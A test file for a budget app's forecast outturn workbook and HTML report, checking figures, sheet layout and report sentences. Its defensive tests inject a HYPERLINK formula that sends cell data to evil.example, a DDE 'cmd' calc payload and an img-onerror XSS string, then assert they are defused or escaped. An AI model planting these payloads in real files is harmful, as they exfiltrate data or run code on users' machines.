// The forecast outturn report's workbook and page: the workbook read back cell for cell
// (numbers equal to pence / 100 under £ formats, formula-looking text defused), and the HTML
// with the report's sentences and every plan-provided string escaped.
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { escapeHtml } from '../../electron/export/html';
import { outturnHtml } from '../../electron/export/outturn-html';
import { OUTTURN_SHEETS, outturnWorkbook } from '../../electron/export/outturn-workbook';
import { MONEY_FORMAT } from '../../electron/export/workbook';
import { parseFy } from '../../shared/months';
import { actualsBasis, conditionSentence, lapseSentence, outturnReport, type OutturnReport, varianceShareText } from '../../shared/outturn';
import type { Plan } from '../../shared/plan';
import { readJson } from '../core/helpers';

const WITH_ACTUALS = fileURLToPath(new URL('../fixtures/worked-example-actuals.json', import.meta.url));
const FY = parseFy('2021/22');
const DATE = new Date(2026, 4, 4);
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** The worked example with actuals, its systems and a commentary; `edit` may make it hostile. */
function plan(edit?: (p: any) => void): Plan {
  const p = readJson(WITH_ACTUALS);
  p.interventions[0].system = 'Health';
  p.interventions[1].system = 'Criminal justice';
  p.actuals.commentary = [{ intervention: 'c', fy: '2021/22', text: 'Agency fee of £500 in June for the analyst post.' }];
  edit?.(p);
  return p;
}

async function readBack(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as never);
  return book;
}

/** A sheet's rows from `from` on, as arrays of cell values (column A first). */
function rows(sheet: ExcelJS.Worksheet, from: number): unknown[][] {
  const out: unknown[][] = [];
  for (let r = from; r <= sheet.rowCount; r++) out.push((sheet.getRow(r).values as unknown[]).slice(1));
  return out;
}

describe('the outturn workbook of the worked example, 2021/22 with actuals to June', () => {
  let report: OutturnReport;
  let book: ExcelJS.Workbook;
  beforeAll(async () => {
    report = outturnReport(plan(), 'base', FY);
    book = await readBack(await outturnWorkbook(report, { date: DATE }));
  });

  it('has the four sheets, each with a title block and a frozen header', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual([...OUTTURN_SHEETS]);
    const sheet = book.getWorksheet('Outturn')!;
    expect(sheet.getCell('A1').value).toBe('Worked example with actuals to June 2021');
    expect(sheet.getCell('A2').value).toBe('Forecast outturn, 2021/22: Base [base]');
    expect(sheet.getCell('A3').value).toBe(
      'Actuals to June 2021. Produced by Headroom on 4 May 2026. Money in pounds, exact to the penny.',
    );
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 3, ySplit: 5 });
  });

  it('Outturn: per service and in total, numbers equal to the report in pence / 100', () => {
    const sheet = book.getWorksheet('Outturn')!;
    expect(rows(sheet, 5)[0]).toEqual([
      'System',
      'Category',
      'Service',
      'Budget',
      'Actual to date',
      'Forecast',
      'Outturn',
      'Variance £',
      'Variance %',
      'Under/overspend',
      'Commentary',
    ]);
    const body = rows(sheet, 6);
    expect(body).toHaveLength(report.lines.length + 1);
    report.lines.forEach((line, i) => {
      const pounds = [line.budget, line.actual, line.forecast, line.outturn, line.variance].map((p) => p / 100);
      expect(body[i].slice(3, 9)).toEqual([...pounds, line.varianceShare]);
    });
    expect(body[0]).toEqual([
      'Health',
      'Commissioned',
      'Service A',
      60000,
      14800,
      45000,
      59800,
      -200,
      -0.0033,
      'Underspend of £200.00',
      '',
    ]);
    expect(body[2]).toEqual([
      '',
      'Central',
      'Central team',
      12000,
      3500,
      9000,
      12500,
      500,
      0.0417,
      'Overspend of £500.00',
      'Agency fee of £500 in June for the analyst post.',
    ]);
    expect(body[3].slice(0, 10)).toEqual([
      'Total',
      undefined,
      undefined,
      120000,
      30300,
      90000,
      120300,
      300,
      0.0025,
      'Overspend of £300.00',
    ]);
    const budget = sheet.getRow(6).getCell(4);
    expect(typeof budget.value).toBe('number');
    expect(budget.numFmt).toBe(MONEY_FORMAT);
  });

  it('By system, By category and Funding', () => {
    expect(rows(book.getWorksheet('By system')!, 6).map((r) => r.slice(0, 6))).toEqual([
      ['Health', 60000, 14800, 45000, 59800, -200],
      ['Criminal justice', 48000, 12000, 36000, 48000, 0],
      ['No system', 12000, 3500, 9000, 12500, 500],
      ['Total', 120000, 30300, 90000, 120300, 300],
    ]);
    expect(rows(book.getWorksheet('By category')!, 6).map((r) => r.slice(0, 5))).toEqual([
      ['Commissioned', 108000, 26800, 81000, 107800],
      ['Central', 12000, 3500, 9000, 12500],
      ['Total', 120000, 30300, 90000, 120300],
    ]);
    const funding = rows(book.getWorksheet('Funding')!, 5);
    expect(funding.slice(0, 5)).toEqual([
      ['Measure', 'At budget', 'At outturn'],
      ['Funding', 120000, 120000],
      ['Spend', 120000, 120300],
      ['Drawn from OPCC', 0, 300],
      ['Underspend (lapses at 31 March 2022)', 0, 0],
    ]);
    expect(funding.slice(6, 10)).toEqual([
      ['Grant condition, at outturn'],
      ['Commissioned share', undefined, 0.8961],
      ['Required share', undefined, 0.2],
      ['Compliant', undefined, 'yes'],
    ]);
    expect(funding[11]).toEqual([lapseSentence(report)]);
  });

  it('defuses plan-provided text that a spreadsheet would run as a formula (CWE-1236)', async () => {
    const hostile = plan((p) => {
      p.name = HOSTILE;
      p.interventions[0].name = '@SUM(1+1)*cmd|" /C calc"!A0';
      p.interventions[1].system = '+1+1';
      p.actuals.commentary = [{ intervention: 'a', fy: '2021/22', text: '-2+3' }];
    });
    const read = await readBack(await outturnWorkbook(outturnReport(hostile, 'base', FY), { date: DATE }));
    for (const sheet of read.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@]/);
        }),
      );
    const sheet = read.getWorksheet('Outturn')!;
    expect(sheet.getCell('A1').value).toBe(`'${HOSTILE}`);
    expect(sheet.getCell('C6').value).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(sheet.getCell('A7').value).toBe("'+1+1");
    expect(sheet.getCell('K6').value).toBe("'-2+3");
  });
});

describe('the outturn page', () => {
  it('says what lapses, the condition and the basis, with every plan string escaped', () => {
    const evil = '<img src=x onerror="alert(1)">';
    const report = outturnReport(
      plan((p) => {
        p.name = `Plan ${evil}`;
        p.interventions[0].name = `Service ${evil}`;
        p.interventions[2].system = `System ${evil}`;
        p.underwriting.by = `OPCC ${evil}`;
        p.actuals.commentary = [{ intervention: 'b', fy: '2021/22', text: `Note ${evil}` }];
      }),
      'base',
      FY,
    );
    const html = outturnHtml(report, { date: DATE });
    expect(html).not.toContain('<img');
    expect(html).toContain(escapeHtml(`Plan ${evil}`));
    expect(html).toContain(escapeHtml(`Note ${evil}`));
    expect(html).toContain(escapeHtml(lapseSentence(report)));
    expect(html).toContain('Actuals to June 2021');
    expect(html).toContain('Grant condition met: 89.61% commissioned, at least 20% required.');
    expect(html).toMatch(/Content-Security-Policy" content="default-src 'none'; style-src 'sha256-/);
    expect(html).toContain('size: A4 landscape');
    expect(html).not.toMatch(/<script/i);
  });

  it('for a plan without actuals says every month is forecast', () => {
    const p = plan((x) => delete x.actuals);
    expect(outturnHtml(outturnReport(p, 'base', FY), { date: DATE })).toContain('No actuals yet: every month is forecast');
  });
});

describe('the words the text, workbook and page share', () => {
  it('the basis of an FY without actual months, and the grant condition however it stands', () => {
    const later = outturnReport(plan(), 'base', parseFy('2022/23'));
    expect(actualsBasis(later)).toBe('Actuals to June 2021; none in 2022/23: every month is forecast');
    expect(conditionSentence({ commissionedShare: 0.5, requiredShare: null, compliant: true })).toBe(
      'No grant condition on the commissioned share.',
    );
    expect(conditionSentence({ commissionedShare: 0.1234, requiredShare: 0.2, compliant: false })).toBe(
      'Grant condition broken: 12.34% commissioned, at least 20% required.',
    );
    expect([0.0417, -0.229, 0, null].map(varianceShareText)).toEqual(['+4.17%', '-22.90%', '0.00%', '–']);
  });
});
